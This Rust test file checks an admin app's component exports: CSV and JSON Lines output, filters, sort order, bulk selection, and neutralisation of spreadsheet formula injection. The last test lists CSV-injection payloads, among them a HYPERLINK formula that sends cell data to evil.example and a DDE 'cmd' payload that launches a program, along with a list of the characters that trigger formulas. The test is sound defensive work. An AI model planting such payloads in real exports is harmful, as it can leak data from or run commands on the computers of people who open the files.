//! Files of what a list shows.

use axum::http::{StatusCode, header};
use serde_json::{Value, json};

use crate::visitor::{Answer, COMPONENTS, Site};

const EXPORT: &str = "/admin/components/export";

/// The rows of a CSV file, without its header, each as its cells.
fn rows(answer: &Answer) -> Vec<Vec<String>> {
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    assert_eq!(answer.headers[header::CONTENT_DISPOSITION], "attachment; filename=\"components.csv\"");
    let mut reader = csv::Reader::from_reader(&answer.body[..]);
    assert_eq!(reader.headers().unwrap().iter().take(3).collect::<Vec<_>>(), ["id", "sku", "name"]);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn names(answer: &Answer) -> Vec<String> {
    rows(answer).into_iter().map(|cells| cells[2].clone()).collect()
}

#[tokio::test]
async fn a_file_has_all_that_the_list_shows_in_its_order() {
    for site in Site::each().await {
        site.fill(1203).await;
        site.create(json!({"name": "other", "sku": "O"})).await;
        let mut viewer = site.viewer().await;
        let list = viewer.get(&format!("{COMPONENTS}?tags=bulk&sort=-name&limit=25")).await;
        let link = "/admin/components/export?tags=bulk&#38;sort=-name&#38;format=csv";
        list.assert_has(&["Export CSV", "Export JSON Lines", link]);
        let file = viewer.get(&link.replace("&#38;", "&")).await;
        let expected: Vec<_> = (0..1203).rev().map(|number| format!("Part {number:05}")).collect();
        assert_eq!(names(&file), expected);
        let found = viewer.get(&format!("{EXPORT}?q=oth&format=csv")).await;
        assert_eq!(names(&found), ["other"]);
        let lines = viewer.get(&format!("{EXPORT}?sku=O&format=jsonl")).await;
        let component: Value = serde_json::from_str(lines.text().trim_end()).unwrap();
        assert_eq!((&component["name"], &component["version"]), (&json!("other"), &json!(1)));
        // Nobody takes a file of everything for the one that was asked for.
        for wrong in ["unit_cost__gte=cheap&format=csv", "format=xlsx", ""] {
            assert_eq!(viewer.get(&format!("{EXPORT}?{wrong}")).await.status, StatusCode::BAD_REQUEST);
        }
    }
}

#[tokio::test]
async fn what_is_selected_is_a_file_too() {
    for site in Site::each().await {
        let mut editor = site.editor().await;
        let (a, b) = (site.create(json!({"name": "a"})).await, site.create(json!({"name": "b"})).await);
        site.create(json!({"name": "c"})).await;
        let head = site.head().await;
        let selected = [b.id, a.id].map(|id| format!("{id}:1"));
        let fields = [("action", "export"), ("row", &*selected[0]), ("row", &selected[1])];
        assert_eq!(names(&editor.post("/admin/components/bulk", &fields).await), ["b", "a"]);
        let fields = [("action", "export"), ("everything", "1"), ("list.sort", "name")];
        assert_eq!(names(&editor.follow("/admin/components/bulk", &fields).await), ["a", "b", "c"]);
        let nothing = editor.post("/admin/components/bulk", &[("action", "export")]).await;
        nothing.assert_has(&["No rows selected."]);
        let fields = [("action", "export"), ("row", &*selected[0]), ("count", "1")];
        let run = editor.post("/admin/components/bulk/run", &fields).await;
        assert_eq!(run.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(site.head().await, head);
    }
}

#[tokio::test]
async fn no_cell_is_run_by_a_spreadsheet_and_an_import_reads_each_as_it_was() {
    const FORMULAS: [&str; 8] = [
        "=HYPERLINK(\"https://evil.example/?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)",
        "'=already quoted",
        "\u{ff1d}1+1",
        "'",
        "{=1}",
    ];
    for site in Site::each().await {
        let mut editor = site.editor().await;
        for (number, formula) in FORMULAS.into_iter().enumerate() {
            let notes = format!("\t{formula}");
            let json = json!({
                "sku": format!("{formula}{number}"), "name": formula, "description": formula, "notes": notes,
                "manufacturer": formula, "mpn": formula, "barcode": formula, "unit": formula.chars().take(8).collect::<String>(),
                "tags": [formula.replace([',', '"', '\\'], "")], "custom_fields": {"x": formula},
            });
            site.create(json).await;
        }
        let file = editor.get(&format!("{EXPORT}?format=csv")).await;
        let rows = rows(&file);
        assert_eq!(rows.len(), FORMULAS.len());
        for cell in rows.iter().flatten() {
            let run = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
            assert!(!cell.starts_with(run), "a spreadsheet runs {cell:?}");
        }
        let path = crate::import::upload(&mut editor, "components.csv", file.text()).await;
        // What an export wrote needs no form that says what its columns mean.
        let preview = editor.get(&path).await;
        preview.assert_has(&["<b>8</b> Unchanged", "<b>0</b> Change", "<b>0</b> Create", "<b>0</b> Errors"]);
    }
}
